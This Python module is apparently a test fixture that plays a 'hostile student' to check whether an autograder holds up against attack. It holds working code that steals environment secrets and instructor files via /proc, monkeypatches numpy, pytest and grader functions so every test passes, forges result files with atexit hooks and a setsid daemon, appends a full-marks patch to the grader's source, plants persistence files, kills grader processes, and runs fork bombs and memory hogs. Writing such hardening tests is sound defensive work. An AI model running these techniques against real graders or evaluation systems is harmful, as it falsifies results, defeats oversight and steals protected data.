"""The code of a hostile student, copied into a released tree by test_grade_attacks.py.

The tree's layers/__init__.py imports it as layers._hostile: at import it runs
the attacks CONFIG["attacks"] names, and the tree's blanks call its helpers.
Run as a script (`python _hostile.py ROLE MARK`) it plays one process role
(daemon, holder, bomb, hog); MARK, which holds the test's token, stays on the
command line of every process it starts, so the test can find them all.

Each attack reports what it got through every channel a student has: stdout,
stderr, exception messages, and the shape or dtype of a returned array. The
test then looks for the stolen text in everything the grader writes.
"""

import atexit
import contextlib
import importlib
import importlib.util
import json
import os
import signal
import socket
import subprocess
import sys
import time
import zipfile
from io import BytesIO
from pathlib import Path

# The test writes its JSON config here, hex-encoded, so that no instructor path shows in
# a traceback of this file.
CONFIG_HEX = ""
CONFIG = json.loads(bytes.fromhex(CONFIG_HEX).decode()) if CONFIG_HEX else {}
HERE = Path(__file__).resolve()
TREE = HERE.parents[1]
TOKEN = CONFIG.get("token", "no-token")
# Every output name a graded test of the course can have: a forged verdict names them all.
KEYS = ("passed", "out", "dx", "dw", "db", "dgamma", "dbeta", "loss", "scores", "W1", "b1",
        "W2", "b2", "next_w", "velocity", "cache", "m", "v", "t")


def roots():
    """The instructor's trees (the test tells us; a real student would guess them)."""
    return [Path(p) for p in CONFIG.get("roots", [])]


def _read(path, limit=200_000):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except OSError:
        return None


def _procs():
    """(pid, argv) of every process this process can see."""
    out = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            raw = _read(f"/proc/{entry}/cmdline")
            if raw:
                out.append((int(entry), raw.split("\0")))
    return out


def _grader():
    """(pid, results folder) of the `handgrad grade` process of this submission (its command
    line names the submission, which holds the token), from its /proc entry."""
    for pid, argv in _procs():
        if "grade" in argv and "--out" in argv and any(TOKEN in a for a in argv):
            out = Path(argv[argv.index("--out") + 1])
            with contextlib.suppress(OSError):
                out = Path(os.readlink(f"/proc/{pid}/cwd")) / out
            return pid, out
    return None


def _spawn(role, *, new_session=False, quiet=True):
    """Start this file as ROLE in a new process; its command line carries the token."""
    null = subprocess.DEVNULL if quiet else None
    return subprocess.Popen([sys.executable, str(HERE), role, f"{TOKEN}-{role}"],
                            stdin=null, stdout=null, stderr=null, start_new_session=new_session)


def exfiltrate(label, text):
    """Every channel but the returned arrays: stdout and stderr."""
    if text:
        message = f"[stolen {label}] {text[:4000]}"
        print(message, flush=True)
        print(message, file=sys.stderr, flush=True)


# ---------------------------------------------------------------- what can be found


def stolen_files():
    """{label: text} of the instructor's files this process can read."""
    found = {}
    for root in roots():
        for rel in ("coursework.toml", "tests/hidden/test_hidden_layers.py",
                    "tests/hidden/test_hidden_optim.py", "layers/affine.py",
                    "handgrad/coursework/checks.py"):
            text = _read(root / rel)
            if text:
                found[f"{root.name}/{rel}"] = text
    for folder in [TREE, *TREE.parents]:
        for rel in ("coursework.toml", "tests/hidden/test_hidden_layers.py"):
            text = _read(folder / rel)
            if text:
                found[str(folder / rel)] = text
    for path in sibling_trees():
        found[str(path)] = _read(path / "layers/affine.py")
    return found


def sibling_trees():
    """Other grading trees next to this one (the other blanks' copies), readable ones."""
    out = []
    for parent in TREE.parents[:3]:
        with contextlib.suppress(OSError):
            for child in parent.iterdir():
                for tree in (child, *child.glob("*")):
                    if tree != TREE and _read(tree / "layers/affine.py"):
                        out.append(tree)
    return out


def solution_line():
    """A line of the solution's affine_backward: from this tree (blank isolation puts it in
    every other blank's tree), else from any tree or file found."""
    candidates = [_read(TREE / "layers/affine.py") or "", *stolen_files().values()]
    for text in candidates:
        for line in (text or "").splitlines():
            if "dout @ w.T" in line and "HINT" not in line:
                return line.strip()
    return ""


# ---------------------------------------------------------------- probes (True: got through)


def probe_env():
    """The grader's secret environment variable, in ours, our parent's or the grader's."""
    name = CONFIG.get("secret_var", "")
    if name in os.environ:
        exfiltrate("env", os.environ[name])
        return True
    ours = [pid for pid, argv in _procs() if any(TOKEN in a for a in argv)]
    for pid in [os.getppid(), *ours]:
        raw = _read(f"/proc/{pid}/environ") or ""
        if name in raw:
            exfiltrate("env", raw)
            return True
    return False


def probe_proc():
    """The grader's process (its command line names --out and the submission), or any
    command line naming the instructor's tree, is visible in /proc."""
    found = _grader()
    if found:
        exfiltrate("proc", str(found))
    parent = (_read(f"/proc/{os.getppid()}/cmdline") or "").split("\0")
    named = [argv for _, argv in _procs() if any(str(r) in a for r in roots() for a in argv)]
    return bool(found or named) or ("grade" in parent and "--out" in parent)


def probe_grader():
    """A module of the grader (not the student's own copy in the tree) imports by name."""
    for name in ("handgrad.coursework.checks", "handgrad.coursework.grader",
                 "handgrad.coursework.spec"):
        with contextlib.suppress(Exception):
            module = importlib.import_module(name)
            if TREE not in Path(module.__file__).resolve().parents:
                return True
    return False


def probe_grader_file():
    """The grader's source is readable by path."""
    return any(_read(root / "handgrad/coursework/checks.py") for root in roots())


def probe_net():
    """A connection to the test's listener on 127.0.0.1."""
    try:
        with socket.create_connection(("127.0.0.1", CONFIG["port"]), timeout=1) as conn:
            conn.sendall(TOKEN.encode())
        return True
    except OSError:
        return False


def probe_toml():
    return any(k.endswith("coursework.toml") for k in stolen_files())


def probe_hidden():
    return any("test_hidden" in k for k in stolen_files())


def probe_solution():
    return any(k.endswith("layers/affine.py") and "BEGIN SOLUTION" in (v or "")
               for k, v in stolen_files().items())


def probe_siblings():
    return bool(sibling_trees())


def probe_persist():
    """A file another graded process wrote in $HOME or /tmp is still there."""
    for folder in (Path.home(), Path("/tmp")):
        with contextlib.suppress(OSError):
            for path in folder.glob(f"{TOKEN}-persist-*"):
                if not path.name.endswith(f"-{os.getpid()}"):
                    return True
    return False


PROBES = {name[len("probe_"):]: fn for name, fn in globals().items() if name.startswith("probe_")}
_seen = {}


def probed(name):
    if name not in _seen:
        try:
            _seen[name] = bool(PROBES[name]())
        except Exception:
            _seen[name] = False
        if _seen[name]:
            exfiltrate("probe", name)
    return _seen[name]


def oracle(fn, probes):
    """fn with its i-th output spoiled when probes[i] got through (one bit per output)."""
    def wrapped(*args, **kwargs):
        out = fn(*args, **kwargs)
        outs = list(out) if isinstance(out, tuple) else [out]
        for i, name in enumerate(probes):
            if name and probed(name):
                outs[i] = outs[i] * 1.5 + 1.0
        return tuple(outs) if isinstance(out, tuple) else outs[0]
    return wrapped


# ---------------------------------------------------------------- covert channels of a blank


def shape_code(text):
    """Eight characters of text as the dimensions of an empty array (numpy refuses shapes
    whose other dimensions multiply past 2**63, so eight 7-bit characters per array)."""
    return (0, *[ord(c) for c in text[:8]])


def covert_shape():
    import numpy as np

    line = solution_line()
    return np.zeros(shape_code(line[line.find("dout @"):]))


def covert_dtype():
    import numpy as np

    return np.zeros(0, dtype=[(solution_line() or "nothing", "f8")])


def covert_raise():
    raise ValueError(f"stolen: {solution_line()}")


def stolen_layers():
    """The instructor's layers package, loaded under another name from wherever it is found."""
    for tree in [*roots(), *sibling_trees()]:
        init = tree / "layers/__init__.py"
        if not _read(init):
            continue
        name = f"stolen_layers_{abs(hash(str(tree)))}"
        spec = importlib.util.spec_from_file_location(name, init,
                                                      submodule_search_locations=[str(init.parent)])
        try:
            module = importlib.util.module_from_spec(spec)
            sys.modules[name] = module
            spec.loader.exec_module(module)
            return module
        except Exception:
            continue
    return None


# ---------------------------------------------------------------- attacks run at import


def attack_atexit():
    """At exit, rewrite every file named on our command line as an all-passed result."""
    forged = {"verdicts": {k: ["passed", ""] for k in KEYS}, "exit": 0,
              "outcomes": {"forged": ["passed", ""]}, "passed": True, "score": 49}

    def forge():
        for arg in sys.argv[1:]:
            path = Path(arg)
            if path.suffix == ".json" or (path.parent.is_dir() and not path.is_dir()):
                with contextlib.suppress(OSError):
                    path.write_text(json.dumps(forged))
    atexit.register(forge)


def _reports():
    """The per-test result files the child wrote (OUT/<index>.json), OUT named on our
    command line."""
    for arg in sys.argv[1:]:
        folder = Path(arg)
        if (folder / "job.json").is_file():
            yield from (p for p in folder.glob("*.json") if p.stem.isdigit())


def attack_forge_out():
    """At exit, every test's report says its stage passed, and its arrays are gone."""
    def forge():
        for report in _reports():
            report.write_text(json.dumps({"stage": ["passed", "forged"], "numeric": {},
                                          "invalid": []}))
            report.with_suffix(".npz").unlink(missing_ok=True)
    atexit.register(forge)


def _npy(kind):
    """An .npy member: 'bomb' declares 10**11 float64 numbers and holds 1 KB; 'text' holds
    strings."""
    import numpy as np

    buf = BytesIO()
    if kind == "bomb":
        np.lib.format.write_array_header_1_0(
            buf, {"descr": "<f8", "fortran_order": False, "shape": (10**11,)})
        buf.write(bytes(1024))
    else:
        np.save(buf, np.array(["text"] * 3))
    return buf.getvalue()


def forge_results(kind):
    """At exit, replace what the child wrote for each test: 'bomb' and 'text' put _npy(kind)
    members under every output name, the report claiming every value is a number; 'report'
    leaves no arrays and a report whose stage has a number for its frames and a list for
    its message."""
    def forge():
        for report in _reports():
            arrays = report.with_suffix(".npz")
            if kind == "report":
                stage = {"status": "error", "stage": "loss", "type": "ValueError",
                         "frames": 5, "message": ["not", "text"]}
                report.write_text(json.dumps({"stage": stage, "numeric": {}, "invalid": []}))
                arrays.unlink(missing_ok=True)
                continue
            report.write_text(json.dumps({"stage": None, "numeric": {}, "invalid": []}))
            with zipfile.ZipFile(arrays, "w") as zf:
                for key in KEYS:
                    zf.writestr(f"{key}.npy", _npy(kind))
    atexit.register(forge)


def attack_judge():
    """Replace every judging function the grader may have loaded in this process."""
    def passed(test, *args, **kwargs):
        return {k: ("passed", "") for k in getattr(test, "points", KEYS)}
    with contextlib.suppress(Exception):
        importlib.import_module("handgrad.coursework.checks")
    for name, module in list(sys.modules.items()):
        if name.startswith("handgrad"):
            for attr in ("judge", "compare", "_compare", "verdicts"):
                if hasattr(module, attr):
                    setattr(module, attr, passed)


def attack_numpy():
    """Every numpy comparison says equal."""
    import numpy as np

    np.allclose = np.array_equal = np.array_equiv = lambda *a, **k: True
    np.isclose = lambda a, *rest, **k: np.ones(np.shape(a), dtype=bool)
    np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None


def attack_pytest():
    """Every pytest test passes: its body is never run."""
    module = sys.modules.get("_pytest.python")
    if module is not None:
        module.Function.runtest = lambda self: None


def attack_forge():
    """Overwrite every .npz (the reference outputs) and .json we can find with zeros / passes."""
    import numpy as np

    folders = {Path.cwd(), *[Path(a) for a in sys.argv[1:] if Path(a).is_dir()]}
    for folder in list(folders):
        folders |= {p for p in folder.glob("*") if p.is_dir()}
    for folder in folders:
        with contextlib.suppress(OSError):
            for path in folder.glob("*.npz"):
                with np.load(path, allow_pickle=False) as data:
                    zeros = {k: np.zeros_like(data[k]) for k in data.files}
                np.savez(path, **zeros)


def attack_source():
    """Append to the grader's source: every later grading run gives full marks."""
    patch = ("\n\n_forged_json = results_json\n\n\n"
             "def results_json(entries, note='', seconds=None):  # " + TOKEN + "\n"
             "    for e in entries:\n"
             "        e.score, e.outcome = e.max_score, 'passed'\n"
             "    return _forged_json(entries, note, seconds)\n")
    targets = [root / "handgrad/coursework/reports.py" for root in roots()]
    with contextlib.suppress(Exception):
        targets.append(Path(importlib.import_module("handgrad.coursework.reports").__file__))
    for path in targets:
        with contextlib.suppress(OSError), open(path, "a", encoding="utf-8") as f:
            f.write(patch)


def attack_home():
    """Leave files in $HOME and /tmp for later tests, and a usercustomize for later Pythons."""
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    site = Path.home() / ".local/lib" / version / "site-packages"
    with contextlib.suppress(OSError):
        site.mkdir(parents=True, exist_ok=True)
        (site / "usercustomize.py").write_text(f"# {TOKEN}\nimport os\n")
    for folder in {Path.home(), Path("/tmp"), Path(os.environ.get("TMPDIR", "/tmp"))}:
        with contextlib.suppress(OSError):
            (folder / f"{TOKEN}-persist-{os.getpid()}").write_text("left for later tests\n")


def attack_print():
    """Print the solution line found in this tree (another blank's region) and whatever the
    instructor's files show."""
    exfiltrate("own tree", solution_line())
    for label, text in stolen_files().items():
        exfiltrate(label, text)


def attack_steal():
    """Print what can be read; replace our layers' functions by the solution's, if found."""
    for label, text in stolen_files().items():
        exfiltrate(label, text)
    stolen = stolen_layers()
    layers = sys.modules.get("layers")
    if stolen is not None and layers is not None:
        for name in ("affine_backward", "relu_backward", "softmax_loss", "svm_loss"):
            setattr(layers, name, getattr(stolen, name))
        exfiltrate("layers", str(stolen.__file__))


def attack_daemon():
    """A double-forked, setsid daemon that rewrites results.json once the grader is gone."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, str(HERE), "daemon", f"{TOKEN}-daemon"])
        os._exit(0)


def attack_holder():
    """A setsid grandchild that keeps our stdout and stderr open."""
    _spawn("holder", new_session=True, quiet=False)


def attack_kill():
    """Kill our parent and every grading process we can see."""
    targets = {os.getppid()} | {pid for pid, argv in _procs()
                                if "grade" in argv and any(TOKEN in a for a in argv)}
    for pid in targets - {0, 1, os.getpid()}:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


def attack_forged_stdout():
    """An all-passed result, printed as if the grader's own."""
    print(json.dumps({"score": 49, "verdicts": {k: ["passed", ""] for k in KEYS},
                      "tests": [{"name": k, "score": 5, "status": "passed"} for k in KEYS]}),
          flush=True)


def attack_loop():
    while True:
        pass


# ---------------------------------------------------------------- roles of spawned processes


def role_daemon():
    deadline = time.time() + 60
    for fd in (0, 1, 2):
        with contextlib.suppress(OSError):
            os.close(fd)
    target = None
    while target is None and time.time() < deadline:
        target = _grader()
        time.sleep(0.2)
    if target is not None:
        pid, out = target
        while Path(f"/proc/{pid}").exists() and time.time() < deadline:
            time.sleep(0.05)
        results = out / "results.json"
        with contextlib.suppress(Exception):
            data = json.loads(results.read_text())
            for test in data["tests"]:
                test["score"], test["status"] = test["max_score"], "passed"
            data["score"] = sum(t["score"] for t in data["tests"])
            results.write_text(json.dumps(data))
    time.sleep(max(0.0, deadline - time.time()))


def role_holder():
    time.sleep(40)


def role_bomb():
    """Fork until refused (at most 400), each child sleeping."""
    for _ in range(400):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
    time.sleep(30)


def role_hog():
    """Hold CONFIG["hog_mb"] of touched memory."""
    size = int(CONFIG.get("hog_mb", 800)) * 2**20
    block = bytearray(size)
    block[::4096] = b"\1" * (size // 4096)
    time.sleep(30)


def spawn_and_wait(role, count, seconds):
    """Start count processes of role and give them seconds to do their worst."""
    for _ in range(count):
        _spawn(role)
    time.sleep(seconds)


def flood(megabytes):
    """Print megabytes of output on stdout and stderr."""
    chunk = b"A" * 2**20
    with contextlib.suppress(OSError):
        for _ in range(megabytes):
            os.write(1, chunk)
            os.write(2, chunk)


ROLES = {name[len("role_"):]: fn for name, fn in globals().items() if name.startswith("role_")}
ATTACKS = {name[len("attack_"):]: fn for name, fn in globals().items()
           if name.startswith("attack_")}

if __name__ == "__main__":
    ROLES[sys.argv[1]]()
else:
    for attack in CONFIG.get("attacks", []):
        with contextlib.suppress(Exception):
            ATTACKS[attack]()
